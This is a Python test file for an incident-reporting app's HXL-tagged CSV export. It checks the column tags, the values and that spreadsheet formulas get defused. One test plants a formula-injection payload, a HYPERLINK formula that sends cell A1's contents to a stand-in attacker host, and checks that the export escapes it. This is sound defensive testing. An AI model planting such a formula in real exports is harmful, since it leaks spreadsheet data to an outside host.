"""HXL-tagged CSV export: libhxl reads it, the tags and values are the expected ones, formulas are defused."""

from __future__ import annotations

import csv
import io

import hxl
import pytest
from sqlalchemy import select

from app.core.db import transaction
from app.exports.hxlcsv import cell
from app.incidents.models import Incident

URL = "/api/v1/exports/incidents.csv"
TAGS = [
    "#event+code", "#date+reported", "#date+updated", "#status", "#x_priority", "#event+type", "#event+type+sub",
    "#event+type+code", "#severity", "#status+verification", "#loc+name", "#geo+lat", "#geo+lon", "#geo+precision",
    "#geo+ring", "#affected+killed+min", "#affected+killed+max", "#meta+count", "#meta+count+reporters",
    "#x_exercise",
]  # fmt: skip


def test_libhxl_reads_the_tags_and_values(kengele, viewer, send, stored):
    send("Attaque des hommes armés à Bria, 12 morts")
    send("Des hommes armés vus à Kembé hier, on a peur", "+23672110005")
    answer = kengele.client.get(URL, headers=viewer)
    assert answer.status_code == 200 and answer.headers["content-type"] == "text/csv; charset=utf-8"
    dataset = hxl.data(io.BytesIO(answer.content))
    assert [column.display_tag for column in dataset.columns] == TAGS
    rows = {row.get("#loc+name"): row for row in dataset}
    assert set(rows) == {"Bria", "Kembé"}  # UTF-8 survives
    bria, kembe = rows["Bria"], rows["Kembé"]
    listed = {i["ref"]: i for i in stored()}
    assert bria.get("#event+code") in listed and float(bria.get("#geo+lat")) == listed[bria.get("#event+code")]["lat"]
    assert (bria.get("#event+type"), bria.get("#event+type+sub"), bria.get("#event+type+code")) == (
        "Violence against civilians", "Attack", "attack_civilians")  # fmt: skip
    assert (bria.get("#affected+killed+min"), bria.get("#affected+killed+max")) == ("12", "12")
    assert (bria.get("#meta+count"), bria.get("#meta+count+reporters")) == ("1", "1")
    assert bria.get("#status") == "escalated" and bria.get("#status+verification") == "unverified"
    assert bria.get("#x_priority") in ("P1", "P2") and bria.get("#severity") == "extreme"
    assert bria.get("#date+reported").endswith("Z") and bria.get("#x_exercise") == "false"
    assert kembe.get("#event+type+sub") == "Change to group/activity" and kembe.get("#affected+killed+min") is None
    assert 4 < float(kembe.get("#geo+lat")) < 5 and float(kembe.get("#geo+precision")) > 0


def test_a_place_that_looks_like_a_formula_is_defused(kengele, viewer, send, factory):
    send("Attaque des hommes armés à Bria, 12 morts")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bria")'
    with transaction(factory) as session:
        session.scalars(select(Incident)).one().place = formula  # a gazetteer name someone managed to plant
    text = kengele.client.get(URL, headers=viewer).text
    header, tags, row = list(csv.reader(io.StringIO(text)))
    assert row[header.index("place")] == "'" + formula
    assert tags[header.index("place")] == "#loc+name"
    assert "\n=" not in text and ",=" not in text


@pytest.mark.parametrize("text", ["=1+2", "+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1"])
def test_every_formula_start_gets_an_apostrophe(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize(("value", "text"), [(-12.5, "-12.5"), (0, "0"), (None, ""), ("Bria", "Bria"),
                                             ("Kaga-Bandoro", "Kaga-Bandoro")])  # fmt: skip
def test_numbers_and_plain_text_stay_as_they_are(value, text):
    assert cell(value) == text  # a negative longitude is a number, not a formula
